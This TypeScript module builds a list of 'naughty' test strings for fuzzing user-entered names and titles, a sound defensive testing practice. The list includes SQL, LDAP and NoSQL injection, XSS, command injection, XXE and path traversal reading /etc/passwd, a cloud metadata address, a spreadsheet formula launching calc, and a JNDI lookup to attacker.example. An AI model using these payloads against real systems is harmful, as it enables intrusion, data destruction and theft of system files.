/** The characters with the code points of a range, both ends included. */
function codePoints(from: number, to: number): readonly string[] {
  return Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index));
}

/** Lists the strings that are separated by spaces. */
function splitAtSpaces(...lines: readonly string[]): readonly string[] {
  return lines.flatMap((line) => line.split(' '));
}

const controls = [...codePoints(0x00, 0x1f), ...codePoints(0x7f, 0x9f)];
const invisible = [
  '\u00a0',
  '\u00ad',
  '\u061c',
  '\u115f',
  '\u180e',
  ...codePoints(0x2000, 0x200f),
  ...codePoints(0x2028, 0x202e),
  ...codePoints(0x2060, 0x206f),
  '\u3000',
  '\ufeff',
  '\ufff9',
  '\ufffd',
  '\uffff',
];
const ansi = [
  '[31m',
  '[2J',
  '[1A',
  '[0;0H',
  ']0;title\x07',
  ']8;;https://attacker.example\x07',
  'c',
  '[?1049h',
  '[999D',
  'P$q"p',
].map((code) => `\x1b${code}`);
const lineBreaks = [
  '\r\n',
  '\n',
  '\r',
  '\n\r',
  '\r\n\r\n',
  '\u0085',
  '\u2028',
  '\u2029',
  '%0d%0a',
  '\\r\\n',
  '\n{"status":200}',
  '\r\nSet-Cookie: x=y',
  '\r\nHTTP/1.1 200 OK',
  '\n[error] down',
  '"}\n{"api":"original-api"',
];
const words = [
  '[object Object]',
  ...splitAtSpaces(
    'null undefined NaN Infinity -Infinity true false None nil NULL (null) __proto__',
    'constructor prototype toString hasOwnProperty valueOf __defineGetter__ then CON PRN',
    'AUX NUL COM1 LPT1 Scunthorpe undef eval this __dirname Symbol.iterator $where length',
    'name arguments self localhost',
  ),
];
const numbers = splitAtSpaces(
  '0 -0 1/0 0x0 0xffffffff 1e309 1e-400 .5 0.1e 1,000 ٣ ① 9007199254740993',
  '999999999999999999999 2147483648 -2147483649 1E2 +1 0b1 1_000',
);
const quotes = [
  "'",
  '"',
  '`',
  "''",
  '""',
  `'"`,
  `"''''"'"`,
  '\\',
  '\\\\',
  '\\"',
  "\\'",
  '\x24{1+1}',
  '<%= 1+1 %>',
  '`id`',
  '\x24{jndi:ldap://attacker.example/a}',
  ...splitAtSpaces(
    '«» “” ‘’ < > & &amp; &#0; % %% %s%n%x %00 %2e%2e%2f %ff #{1+1} {{1+1}} $(id) $HOME',
    '%USERPROFILE% {0} %@ @{x}',
  ),
];
const injections = [
  "' OR 1=1 --",
  "'; DROP TABLE documents; --",
  '" OR ""="',
  "x' eq 'x",
  "' or PartitionKey ge '",
  "') or (RowKey ne '",
  '*)(uid=*))(|(uid=*',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '</title><script>1</script>',
  '<!--',
  ']]>',
  '<![CDATA[x]]>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
  '; cat /etc/passwd',
  '| sleep 5',
  '&& exit',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/null',
  'file:///etc/passwd',
  'http://169.254.169.254/',
  '=1+1',
  '@SUM(1)',
  "=cmd|'/c calc'!A0",
  '{"$gt":""}',
  '[{"a":1}]',
  '{"__proto__":{"owner":"x"}}',
  '---\n- x',
  '!!js/function x',
  'Bearer x',
  'Basic dTpw',
  'data:text/html,x',
];
const scripts = splitAtSpaces(
  'Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ 田中さんにあげて下さい 사회과학원 社會科學院 ÅÍÎÏ˝ÓÔ مُنَاقَشَةُ בְּרֵאשִׁית',
  'ЁЂЃЄЅІЇ ⁰⁴⁵₀₁₂ Ⱥ İıſß ﬁﬂ ǅ ṩ Ṩ क्षत्रिय ไทย ᚠᛇᚻ ⠓⠑⠇⠇⠕ 𝒯𝒽𝑒 𠜎𠜱 Z̴͚a͜l̛g͠o̷ e\u0301',
  '\u0301 \u0338 ﷺ ‱ ﷽',
);
const emoji = [
  '😍',
  '👩‍💻',
  '👨‍👩‍👧‍👦',
  '🏳️‍🌈',
  '🇨🇭',
  '👍🏿',
  '1️⃣',
  '🫠',
  '🧑🏽‍🚀',
  '❤️',
  '✋🏿 💪🏿',
  '🚾 🆒',
  '🀄',
  '🃏',
  '☃️',
  '🕴️',
];
const repeated = ['a', ' ', '\t', '.', '-', '_', '/', '🙂', 'é', '\u200d'].flatMap((text) => [
  text.repeat(16),
  text.repeat(45),
]);

/**
 * Strings that have broken other programs, in the manner of the Big List of Naughty Strings. Users
 * may enter them as a name, a title or a text, and they must have no effect.
 */
export const naughtyStrings: readonly string[] = [
  ...new Set([
    ...controls,
    ...controls.map((control) => `a${control}b`),
    ...invisible,
    ...invisible.map((character) => `a${character}b`),
    ...ansi,
    ...ansi.map((code) => `a${code}b`),
    ...lineBreaks,
    ...lineBreaks.map((text) => `a${text}b`),
    ...words,
    ...words.map((word) => word.toUpperCase()),
    ...numbers,
    ...quotes,
    ...quotes.map((quote) => `a${quote}b`),
    ...injections,
    ...scripts,
    ...emoji,
    ...repeated,
  ]),
];
